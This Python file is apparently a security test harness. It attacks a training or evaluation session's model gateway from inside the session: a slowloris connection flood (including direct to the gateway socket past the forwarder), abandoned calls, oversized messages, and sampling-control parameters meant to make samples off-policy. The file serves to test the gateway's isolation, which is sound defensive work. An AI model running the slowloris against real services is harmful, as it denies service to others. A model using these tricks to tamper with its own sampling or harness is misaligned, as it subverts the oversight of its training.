"""Attacks on a session's gateway channel, run as the session's harness (stdlib only).

`ATTACK_CHANNEL` picks one (a comma list runs several, in order):
- `slowloris`: open up to `ATTACK_CONNS` connections to the channel, each with half a request
  header, and hold them `ATTACK_HOLD_S` seconds; `ATTACK_TARGET` is `tcp` (the gateway URL the
  harness is given) or `unix` (straight to `/run/polar/gateway.sock`, past the forwarder);
- `abandon`: a call given up after 1.1 s (the upstream answers it in 3 s), then a normal call;
- `sampling`: one call with each sampling control that makes a sample off-policy;
- `big`: one call with a `ATTACK_BIG_MB` MiB message, then one small call;
- `wait`: an honest neighbour's `ATTACK_WAIT_S` wait, then one ordinary call.
What each achieved goes out as `ATTACK-REPORT {json}` lines on stdout, after every step (the
session may be ended mid-attack); the code fix is the honest one when `ATTACK_FIX=1`.
"""

from __future__ import annotations

import json
import os
import resource
import socket
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

REPORT: dict[str, object] = {}
SOCKET = "/run/polar/gateway.sock"
HALF_HEADER = b"POST /v1/chat/completions HTTP/1.1\r\nHost: gateway\r\nX-Slow: "


def report() -> None:
    print("ATTACK-REPORT " + json.dumps(REPORT), flush=True)


def base() -> str:
    return os.environ["POLAR_GATEWAY_URL"].rstrip("/")


def body(content: str = "hello", **extra: object) -> dict[str, object]:
    messages = [{"role": "user", "content": content}]
    return {"model": os.environ.get("POLAR_MODEL", "policy"), "messages": messages, **extra}


def call(payload: dict[str, object], timeout: float = 30) -> tuple[int, dict[str, object]]:
    """POST a chat completion; its status and JSON answer (-1 and {} without one)."""
    data = json.dumps(payload).encode()
    request = urllib.request.Request(
        f"{base()}/v1/chat/completions",
        data=data,
        headers={"content-type": "application/json", "authorization": "Bearer x"},
    )
    try:
        with urllib.request.urlopen(request, timeout=timeout) as answer:
            return answer.status, json.loads(answer.read() or b"{}")
    except urllib.error.HTTPError as exc:
        try:
            return exc.code, json.loads(exc.read() or b"{}")
        except ValueError:
            return exc.code, {}
    except (OSError, ValueError) as exc:
        REPORT.setdefault("call_errors", []).append(f"{type(exc).__name__}: {exc}")  # type: ignore[union-attr]
        return -1, {}


def _connect(target: str) -> socket.socket:
    if target == "unix":
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(5)
        sock.connect(SOCKET)
    else:
        url = urllib.parse.urlsplit(base())
        sock = socket.create_connection((url.hostname or "127.0.0.1", url.port or 80), timeout=5)
    return sock


def _alive(sock: socket.socket) -> bool:
    """Whether the server still holds `sock` open (no EOF, no reset, nothing answered)."""
    try:
        sock.setblocking(False)
        sock.recv(1, socket.MSG_PEEK)  # EOF, or an answer (a 408): the server let it go
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def slowloris() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    target = os.environ.get("ATTACK_TARGET", "tcp")
    wanted = int(os.environ.get("ATTACK_CONNS", "3000"))
    hold_s = float(os.environ.get("ATTACK_HOLD_S", "30"))
    held: list[socket.socket] = []
    REPORT.update(target=target, wanted=wanted, opened=0, connect_errors=0)
    for i in range(wanted):
        try:
            sock = _connect(target)
            sock.sendall(HALF_HEADER)
            held.append(sock)
        except OSError as exc:
            REPORT["connect_errors"] = int(REPORT["connect_errors"]) + 1  # type: ignore[call-overload]
            REPORT["last_error"] = f"{type(exc).__name__}: {exc}"
            if int(REPORT["connect_errors"]) > 50:  # type: ignore[call-overload]
                break
            time.sleep(0.01)
        REPORT["opened"] = len(held)
        if i % 250 == 0:
            report()
    report()
    deadline = time.monotonic() + hold_s
    while time.monotonic() < deadline:  # trickle a byte on each, as slowloris does
        time.sleep(2)
        for sock in held:
            try:
                sock.setblocking(False)
                sock.send(b"a")
            except OSError:
                pass
        REPORT["still_open"] = sum(_alive(s) for s in held)
        report()
    # the channel still serves this session afterwards?
    REPORT["call_after"] = call(body("after the slowloris"))[0]
    report()


def abandon() -> None:
    """A call given up at 1.1 s: connect, send, wait, then close before the answer."""
    payload = json.dumps(body("abandoned")).encode()
    url = urllib.parse.urlsplit(base())
    head = (
        f"POST /v1/chat/completions HTTP/1.1\r\nHost: {url.netloc}\r\n"
        "content-type: application/json\r\nauthorization: Bearer x\r\n"
        f"content-length: {len(payload)}\r\n\r\n"
    ).encode()
    sock = socket.create_connection((url.hostname or "127.0.0.1", url.port or 80), timeout=1.1)
    sock.sendall(head + payload)
    try:
        REPORT["abandoned_answer"] = sock.recv(100).decode(errors="replace")[:40]
    except TimeoutError:
        REPORT["abandoned_answer"] = "timeout"
    sock.close()
    time.sleep(3)  # the upstream answers it meanwhile
    REPORT["normal_call"] = call(body("after the abandoned call"))[0]
    report()


CONTROLS: dict[str, dict[str, object]] = {
    "logit_bias": {"logit_bias": {"104": 100}},
    "allowed_token_ids": {"allowed_token_ids": [104, 105]},
    "min_tokens": {"min_tokens": 50},
    "bad_words": {"bad_words": ["no"]},
    "response_format": {
        "response_format": {
            "type": "json_schema",
            "json_schema": {"name": "x", "schema": {"type": "object"}},
        }
    },
    "guided_regex": {"guided_regex": "a+"},
    "structured_outputs": {"structured_outputs": {"regex": "a+"}},
    "chat_template": {"chat_template": "{{ 'forced' }}"},
}


def sampling() -> None:
    REPORT["controls"] = {
        name: call(body(f"with {name}", **extra))[0] for name, extra in CONTROLS.items()
    }
    REPORT["plain"] = call(body("plain"))[0]
    report()


def big() -> None:
    megabytes = int(os.environ.get("ATTACK_BIG_MB", "30"))
    status, answer = call(body(os.urandom(megabytes * 512 * 1024).hex()), timeout=120)
    error = answer.get("error")
    REPORT["big"] = status
    REPORT["big_error"] = error.get("code") if isinstance(error, dict) else None
    REPORT["small_after"] = call(body("small"))[0]
    report()


def wait() -> None:
    """An honest neighbour: wait, then one ordinary call (it must be answered)."""
    time.sleep(float(os.environ.get("ATTACK_WAIT_S", "8")))
    REPORT["honest_call"] = call(body("an honest call"))[0]
    report()


def main() -> None:
    if os.environ.get("ATTACK_FIX") == "1":
        path = Path("calc.py")
        path.write_text(path.read_text().replace("a - b  # BUG", "a + b"))
        REPORT["fixed"] = True
    attacks = {
        "slowloris": slowloris,
        "abandon": abandon,
        "sampling": sampling,
        "big": big,
        "wait": wait,
    }
    for name in filter(None, os.environ.get("ATTACK_CHANNEL", "").split(",")):
        attacks[name]()
    report()


if __name__ == "__main__":
    main()
